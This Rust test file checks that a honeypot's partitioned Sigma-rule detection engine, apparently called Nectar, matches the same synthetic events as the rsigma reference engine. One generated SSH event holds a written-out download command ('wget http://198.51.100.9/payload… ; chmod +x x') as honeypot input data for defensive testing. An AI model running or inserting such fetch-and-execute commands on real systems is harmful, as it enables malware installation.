//! Our detection (rules split by view, service and kind; comparisons on the
//! fields Nectar writes in lowercase made case-sensitive; `kind` dropped from
//! rules within their kind's partition) against rsigma's engine holding every
//! rule as written: the same native rules match the same events.

use std::collections::{BTreeSet, HashSet};

use nectar_event::{Event, Kind, Severity, Timestamp};
use nectar_rules::view::NativeView;
use nectar_rules::{EngineLimits, RuleEngine, RuleSet, SigmaEngine};
use rsigma_eval::Engine;
use serde_json::json;

/// Rules of the shapes analysts write, over the kinds honeypots produce (as
/// the benchmark's), with kinds in other cases and lists of kinds.
fn extra_rules(n: usize) -> String {
    let mut out = String::new();
    for i in 0..n {
        let detection = match i % 7 {
            0 => format!("  sel:\n    kind: SSH.Command\n    input|contains: 'payload{i}'\n"),
            1 => format!("  sel:\n    kind: http.request\n    path|startswith: '/admin{i}/'\n"),
            2 => format!("  sel:\n    username: 'user{i}'\n    password|endswith: 'x{i}'\n"),
            3 => format!("  sel:\n    - 'needle-{i}-in-any-string'\n"),
            4 => format!(
                "  sel:\n    src_ip|cidr: '10.{}.0.0/16'\n    kind: session.connect\n",
                i % 250
            ),
            5 => format!(
                "  sel:\n    kind: [ssh.login.failed, telnet.login.failed]\n    username: 'user{i}'\n  filter:\n    password: 'allowed'\n  condition: sel and not filter\n"
            ),
            _ => format!(
                "  sel:\n    kind: ssh.login.failed\n  other:\n    username: 'user{i}'\n  condition: sel or other\n"
            ),
        };
        let condition = if detection.contains("condition:") {
            ""
        } else {
            "  condition: sel\n"
        };
        out.push_str(&format!(
            "---\ntitle: extra {i}\nid: extra-{i}\nlogsource: {{product: nectar}}\ndetection:\n{detection}{condition}level: low\n"
        ));
    }
    out
}

fn events(n: usize) -> Vec<Event> {
    let base = 1_800_000_000_000_000i64;
    (0..n)
        .map(|i| {
            let mut e = match i % 6 {
                0 => Event::new("hp", Kind::SshLoginFailed, Severity::Low, "failed")
                    .with("username", format!("user{}", i % 90))
                    .with(
                        "password",
                        if i % 4 == 0 {
                            "allowed".to_owned()
                        } else {
                            format!("pw-x{}", i % 90)
                        },
                    ),
                1 => Event::new("hp", Kind::TelnetLoginFailed, Severity::Low, "failed")
                    .with("username", format!("user{}", i % 90))
                    .with("password", "123456"),
                2 => Event::new("hp", Kind::SessionConnect, Severity::Info, "connect"),
                3 => Event::new("hp", Kind::SshCommand, Severity::Medium, "cmd").with(
                    "input",
                    format!("wget http://198.51.100.9/payload{} ; chmod +x x", i % 90),
                ),
                4 => Event::new("hp", Kind::HttpRequest, Severity::Low, "GET")
                    .with("path", format!("/admin{}/index.php", i % 90))
                    .with("method", "GET"),
                _ => Event::new("hp", Kind::HttpRequest, Severity::Low, "GET")
                    .with("path", "/")
                    .with(
                        "body",
                        json!({"q": format!("needle-{}-in-any-string", i % 90)}),
                    ),
            };
            e.src_ip = Some(std::net::IpAddr::from([10, (i % 250) as u8, 1, 2]));
            e.time = Timestamp::from_micros(base + i as i64 * 1_000_000).unwrap();
            e
        })
        .collect()
}

#[test]
fn partitioned_detection_matches_rsigma_holding_every_rule() {
    let mut set = RuleSet::load(&[], &[], true);
    set.add_text("extra.yml", &extra_rules(140), &HashSet::new());
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    // The native rules (the mapped views have their own fields) that raise
    // alerts of their own (a correlation's quiet detections do not).
    let quiet: HashSet<&str> = set
        .collection
        .correlations
        .iter()
        .filter(|c| !c.generate)
        .flat_map(|c| c.rules.iter().map(String::as_str))
        .collect();
    let native: Vec<_> = set
        .collection
        .rules
        .iter()
        .filter(|r| r.logsource.category.is_none())
        .filter(|r| r.logsource.product.as_deref().is_none_or(|p| p == "nectar"))
        .filter(|r| {
            !r.id
                .iter()
                .chain(&r.name)
                .any(|n| quiet.contains(n.as_str()))
        })
        .collect();
    let mut reference = Engine::new();
    reference.add_rules(native.iter().copied());
    let ids: HashSet<String> = native.iter().filter_map(|r| r.id.clone()).collect();
    let (mut ours, errors) = SigmaEngine::new(&set, EngineLimits::default());
    assert!(errors.is_empty(), "{errors:?}");

    let mut matched = 0;
    for event in events(3_000) {
        let view = NativeView::new(&event);
        let want: BTreeSet<String> = reference
            .evaluate(&view)
            .into_iter()
            .filter(|r| {
                // rsigma does not check a rule's logsource here; ours routes
                // by service, so a rule of another service is not a match.
                let rule = native.iter().find(|n| n.id == r.header.rule_id);
                rule.and_then(|n| n.logsource.service.as_deref())
                    .is_none_or(|s| s.eq_ignore_ascii_case(event.kind.family()))
            })
            .filter_map(|r| r.header.rule_id)
            .collect();
        let mut out = Vec::new();
        ours.process(&event, &mut out);
        let got: BTreeSet<String> = out
            .into_iter()
            .map(|m| m.rule.id.clone())
            .filter(|id| ids.contains(id))
            .collect();
        assert_eq!(got, want, "{event:?}");
        matched += got.len();
    }
    assert!(matched > 1_000, "only {matched} matches");
}
